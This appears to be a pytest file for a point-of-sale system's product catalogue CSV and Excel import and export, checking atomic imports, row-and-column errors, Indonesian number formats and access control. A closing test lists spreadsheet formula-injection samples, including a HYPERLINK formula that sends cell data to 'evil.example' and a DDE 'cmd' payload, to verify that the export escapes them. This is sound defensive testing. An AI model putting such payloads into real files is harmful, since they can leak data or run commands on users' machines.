"""Catalogue CSV import and export (API.md): all or nothing, errors naming row and
column, Excel's Indonesian CSV flavour, and an export that imports again unchanged."""

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from pos.auth.models import AuditEntry
from pos.inventory.models import Product, StockMovement
from tests import factories
from tests.pages import english, flashes, sign_in, text


@pytest.fixture
def booth(db):
    return factories.Booth(factories.make_event(), "B12")


def upload(client, user, exhibitor_id, text, *, encoding="utf-8"):
    data = {"file": (io.BytesIO(text.encode(encoding)), "katalog.csv")}
    return client.post(
        f"/api/v1/products/import?exhibitor_id={exhibitor_id}",
        data=data,
        content_type="multipart/form-data",
        headers=factories.auth_headers(client, user),
    )


def products(db, exhibitor_id):
    return {
        p.sku: p
        for p in db.session.scalars(sa.select(Product).where(Product.exhibitor_id == exhibitor_id))
    }


def test_an_excel_csv_with_bom_and_semicolons_creates_the_products(client, db, booth):
    text = (
        "\ufeffsku;name;category;price;stock;one_of_a_kind;artist;medium;material;weight_g\n"
        "PTG-9;Sawah Jatiluwih;painting;7.500.000;1;yes;I Made Budi;Oil;;\n"
        "SR-9;Cincin Perak;jewellery;450000;12;no;;;Silver 925;6,5\n"
    )
    response = upload(client, booth.manager, booth.exhibitor.id, text)
    assert response.status_code == 200, response.get_json()
    assert response.get_json() == {"created": 2, "updated": 0, "errors": []}
    made = products(db, booth.exhibitor.id)
    assert made["PTG-9"].price == 7_500_000 and made["PTG-9"].one_of_a_kind
    assert made["PTG-9"].attributes == {"artist": "I Made Budi", "medium": "Oil"}
    assert made["SR-9"].attributes == {"material": "Silver 925", "weight_g": 6.5}
    kinds = db.session.scalars(
        sa.select(StockMovement.kind).where(StockMovement.product_id == made["SR-9"].id)
    ).all()
    assert kinds == ["opening"]


@pytest.mark.parametrize("price", ["Rp450.000", "Rp 450.000", "IDR 450,000", "450.000,00"])
def test_a_price_cell_written_as_money_is_read_as_the_money_fields_read_it(
    client, db, booth, price
):
    text = f'sku,name,category,price,stock\nSR-9,Cincin Perak,jewellery,"{price}",12\n'
    response = upload(client, booth.manager, booth.exhibitor.id, text)
    assert response.status_code == 200, response.get_json()
    assert products(db, booth.exhibitor.id)["SR-9"].price == 450_000


def test_an_export_imports_again_unchanged(client, db, booth):
    headers = factories.auth_headers(client, booth.manager)
    exported = client.get(
        f"/api/v1/products/export.csv?exhibitor_id={booth.exhibitor.id}", headers=headers
    )
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert {r["sku"] for r in rows} == {booth.product.sku, booth.painting.sku}
    before = db.session.scalar(sa.select(sa.func.count(StockMovement.id)))
    again = upload(client, booth.manager, booth.exhibitor.id, exported.get_data(as_text=True))
    assert again.get_json() == {"created": 0, "updated": 0, "errors": []}
    assert db.session.scalar(sa.select(sa.func.count(StockMovement.id))) == before


def test_an_import_updates_by_sku_and_ledgers_the_new_stock(client, db, booth):
    text = f"sku,name,category,price,stock\n{booth.product.sku},Keben besar,craft,125000,9\n"
    response = upload(client, booth.manager, booth.exhibitor.id, text)
    assert response.get_json() == {"created": 0, "updated": 1, "errors": []}
    product = db.session.get(Product, booth.product.id)
    assert (product.name, product.price, product.stock) == ("Keben besar", 125_000, 9)
    last = db.session.scalars(
        sa.select(StockMovement)
        .where(StockMovement.product_id == product.id)
        .order_by(StockMovement.id.desc())
    ).first()
    assert (last.kind, last.delta, last.stock_after) == ("import", 4, 9)


# --- a refused import leaves the products it would have updated as they were ------------

# Valid rows change the booth's existing products (a new name, price and stock; a rejected
# product's name, which would send it back for review; a painting's price), a valid new
# product comes between them, and one row is wrong: for a one-of-a-kind painting a stock
# of 2, after its new price was read, and a price no one can read.
UPDATE_ROWS = [
    ["B12-1", "Keben besar", "craft", 125000, 9],
    ["NEW-1", "Tas baru", "craft", 85000, 3],
    ["B12-REJ", "Sokasi diperbaiki", "craft", 60000, 2],
    ["B12-ART", "Sawah Jatiluwih", "painting", 6000000, 2],
    ["B12-2", "Topi", "craft", "murah", 4],
]
UPDATE_ERRORS = [
    {"row": 5, "column": "stock", "message": "A one-of-a-kind item has a stock of 0 or 1."},
    {"row": 6, "column": "price", "message": "price must be a whole number, not 'murah'."},
]


def update_file(kind: str) -> tuple[bytes, str]:
    header = ["sku", "name", "category", "price", "stock"]
    if kind == "csv":
        lines = [",".join(header)] + [",".join(str(v) for v in row) for row in UPDATE_ROWS]
        return ("\n".join(lines) + "\n").encode(), "katalog.csv"
    book = Workbook()
    book.active.append(header)
    for row in UPDATE_ROWS:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue(), "katalog.xlsx"


def booth_snapshot(db, exhibitor_id: int) -> dict:
    """Everything of the booth's catalogue an import could touch: each product's fields,
    its stock ledger, and the audit log."""
    db.session.rollback()  # read what requests committed, not an old snapshot
    columns = list(Product.__table__.columns)
    return {
        "products": sorted(
            tuple(row)
            for row in db.session.execute(
                sa.select(*columns).where(Product.exhibitor_id == exhibitor_id)
            )
        ),
        "ledger": sorted(
            tuple(row)
            for row in db.session.execute(
                sa.select(
                    StockMovement.id,
                    StockMovement.product_id,
                    StockMovement.kind,
                    StockMovement.delta,
                    StockMovement.stock_after,
                ).where(StockMovement.exhibitor_id == exhibitor_id)
            )
        ),
        "audit": sorted(
            tuple(row)
            for row in db.session.execute(
                sa.select(AuditEntry.id, AuditEntry.action, AuditEntry.details)
            )
        ),
    }


@pytest.fixture
def stocked_booth(db, booth):
    """The booth with a product more: one the organizer rejected."""
    rejected = factories.make_product(
        booth.exhibitor, booth.manager, sku="B12-REJ", name="Sokasi", price=50_000, stock=4
    )
    factories.make_product(booth.exhibitor, booth.manager, sku="B12-2", name="Topi", stock=6)
    rejected.review_status, rejected.review_note = "rejected", "Foto buram"
    db.session.commit()
    return booth


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_refused_import_leaves_every_product_it_updates_and_its_ledger_as_it_was(
    client, db, stocked_booth, kind
):
    booth = stocked_booth
    headers = factories.auth_headers(client, booth.manager)
    before = booth_snapshot(db, booth.exhibitor.id)
    content, filename = update_file(kind)
    response = client.post(
        f"/api/v1/products/import?exhibitor_id={booth.exhibitor.id}",
        data={"file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
        headers=headers,
    )
    assert response.status_code == 422
    assert response.get_json() == {
        "error": "import_invalid",
        "message": "Nothing was imported: 2 problem(s) in the file.",
        "created": 0,
        "updated": 0,
        "errors": UPDATE_ERRORS,
    }
    assert booth_snapshot(db, booth.exhibitor.id) == before
    # Nothing is left locked or half-done: the file put right imports whole.
    UPDATE_ROWS[3][4], UPDATE_ROWS[4][3] = 1, 20000
    try:
        fixed, filename = update_file(kind)
    finally:
        UPDATE_ROWS[3][4], UPDATE_ROWS[4][3] = 2, "murah"
    again = client.post(
        f"/api/v1/products/import?exhibitor_id={booth.exhibitor.id}",
        data={"file": (io.BytesIO(fixed), filename)},
        content_type="multipart/form-data",
        headers=headers,
    )
    assert again.get_json() == {"created": 1, "updated": 4, "errors": []}
    made = products(db, booth.exhibitor.id)
    assert (made["B12-1"].name, made["B12-1"].price, made["B12-1"].stock) == (
        "Keben besar",
        125_000,
        9,
    )
    assert made["B12-REJ"].review_status == "pending"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_refused_import_on_the_page_leaves_every_product_it_updates_as_it_was(
    client, db, stocked_booth, kind
):
    booth = stocked_booth
    english(booth.manager)
    sign_in(client, booth.manager)
    before = booth_snapshot(db, booth.exhibitor.id)
    content, filename = update_file(kind)
    response = client.post(
        "/products/import",
        data={"file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    html = text(response)
    assert "Nothing was imported: 2 problems in the file." in html
    assert flashes(html, "success") == []
    assert booth_snapshot(db, booth.exhibitor.id) == before
    listed = text(client.get("/products"))
    assert "Keben besar" not in listed and "Sokasi diperbaiki" not in listed


@pytest.mark.parametrize(
    ("text", "row", "column"),
    [
        ("sku,name,price,stock\nA,B,1,1\n", 1, "category"),
        ("sku,name,category,price,stock,colour\nA,B,craft,1,1,red\n", 1, "colour"),
        ("sku,name,category,price,stock,price\nA,B,craft,1,1,2\n", 1, "price"),
        ("sku,name,category,price,stock\nA,Bag,craft,1,1\nA,Bag again,craft,1,1\n", 3, "sku"),
        ("sku,name,category,price,stock\nA,Bag,craft,lots,1\n", 2, "price"),
        ("sku,name,category,price,stock\nA,Bag,craft,-5,1\n", 2, "price"),
        ("sku,name,category,price,stock\nA,Bag,craft,4.50,1\n", 2, "price"),
        ("sku,name,category,price,stock\nA,Bag,craft,Rp,1\n", 2, "price"),
        ("sku,name,category,price,stock\nA,Bag,craft,10,1.5\n", 2, "stock"),
        ("sku,name,category,price,stock\nA,Bag,boats,10,1\n", 2, "category"),
        ("sku,name,category,price,stock\nA,,craft,10,1\n", 2, "name"),
        ("sku,name,category,price,stock,one_of_a_kind\nA,Art,painting,10,2,yes\n", 2, "stock"),
        ("sku,name,category,price,stock,year\nA,Art,painting,10,1,3024\n", 2, "year"),
    ],
)
def test_any_bad_row_imports_nothing_and_names_row_and_column(client, db, booth, text, row, column):
    good = "sku,name,category,price,stock\nGOOD-1,Good bag,craft,10,1\n"
    before = set(products(db, booth.exhibitor.id))
    combined = (
        text
        if text.startswith("sku,name,price") or "colour" in text or text.count("price") > 1
        else text + "GOOD-1,Good bag,craft,10,1\n"
    )
    response = upload(client, booth.manager, booth.exhibitor.id, combined)
    assert response.status_code == 422, response.get_json()
    body = response.get_json()
    assert body["error"] == "import_invalid" and body["created"] == 0
    assert any(e["row"] == row and column in e["column"] for e in body["errors"]), body["errors"]
    assert set(products(db, booth.exhibitor.id)) == before
    assert upload(client, booth.manager, booth.exhibitor.id, good).status_code == 200


def test_a_file_that_is_not_csv_or_missing_is_refused(client, booth):
    png = upload(
        client, booth.manager, booth.exhibitor.id, "\x89PNG\r\n\x1a\n\x00\x00", encoding="latin-1"
    )
    assert png.status_code == 422
    headers = factories.auth_headers(client, booth.manager)
    missing = client.post(
        f"/api/v1/products/import?exhibitor_id={booth.exhibitor.id}",
        data={},
        content_type="multipart/form-data",
        headers=headers,
    )
    assert missing.status_code == 400 and missing.get_json()["error"] == "file_missing"


def test_another_booth_and_cashiers_cannot_import_or_export(client, db, booth):
    other = factories.Booth(booth.exhibitor.event, "C07")
    text = "sku,name,category,price,stock\nX-1,Intruder,craft,1,1\n"
    assert upload(client, other.manager, booth.exhibitor.id, text).status_code == 403
    assert upload(client, booth.cashier, booth.exhibitor.id, text).status_code == 403
    export = f"/api/v1/products/export.csv?exhibitor_id={booth.exhibitor.id}"
    assert (
        client.get(export, headers=factories.auth_headers(client, other.manager)).status_code == 403
    )
    assert "X-1" not in products(db, booth.exhibitor.id)


def test_one_pass_lists_the_unreadable_rows_and_the_rule_breaking_ones_in_row_order(
    client, db, booth
):
    text = (
        "sku;name;category;price;stock;weaving\n"
        "EN-1;Endek Cepuk;endek;1.250.000;3;hand\n"
        "EN-2;Endek Songket;endek;1,5;2;\n"  # price unreadable
        "EN-3;Endek Lagi;endek;900000;2;loom\n"  # readable, but no such weaving
        "EN-4;;endek;900000;2;\n"  # readable, but no name
    )
    response = upload(client, booth.manager, booth.exhibitor.id, text)
    assert response.status_code == 422
    found = [(e["row"], e["column"]) for e in response.get_json()["errors"]]
    assert found == [(3, "price"), (4, "weaving"), (5, "name")]
    assert "EN-1" not in products(db, booth.exhibitor.id)


# Texts that a spreadsheet would run as a formula, and texts that begin with a quote.
FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62 812 555",
    "-2+3",
    "'=already quoted",
    "''two quotes",
    "'s Gravenhage",
]


def test_an_export_quotes_formula_like_text_and_imports_back_unchanged(client, db, booth):
    for number, name in enumerate(FORMULA_LIKE):
        factories.make_product(
            booth.exhibitor, booth.manager, sku=f"F-{number}", name=name, category="painting",
            description="=1+1", attributes={"artist": "@Made", "medium": "-", "year": 2019},
        )  # fmt: skip
    headers = factories.auth_headers(client, booth.manager)
    exported = client.get(
        f"/api/v1/products/export.csv?exhibitor_id={booth.exhibitor.id}", headers=headers
    ).get_data(as_text=True)
    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert [rows[f"F-{n}"]["name"] for n in range(len(FORMULA_LIKE))] == [
        "'" + name for name in FORMULA_LIKE[:6]
    ] + ["'s Gravenhage"]
    assert rows["F-0"]["description"] == "'=1+1"
    assert (rows["F-0"]["artist"], rows["F-0"]["medium"]) == ("'@Made", "'-")
    assert rows["F-0"]["year"] == "2019" and rows["F-0"]["price"] == "100000"

    # Imported again: nothing changes.
    again = upload(client, booth.manager, booth.exhibitor.id, exported)
    assert again.get_json() == {"created": 0, "updated": 0, "errors": []}
    # Imported into another booth: the same texts, not the quoted ones.
    other = factories.Booth(booth.exhibitor.event, "C07")
    created = upload(client, other.manager, other.exhibitor.id, exported)
    assert created.get_json()["created"] == len(FORMULA_LIKE) + 2
    made = products(db, other.exhibitor.id)
    assert [made[f"F-{n}"].name for n in range(len(FORMULA_LIKE))] == FORMULA_LIKE
    assert made["F-0"].description == "=1+1"
    assert made["F-0"].attributes == {"artist": "@Made", "medium": "-", "year": 2019}
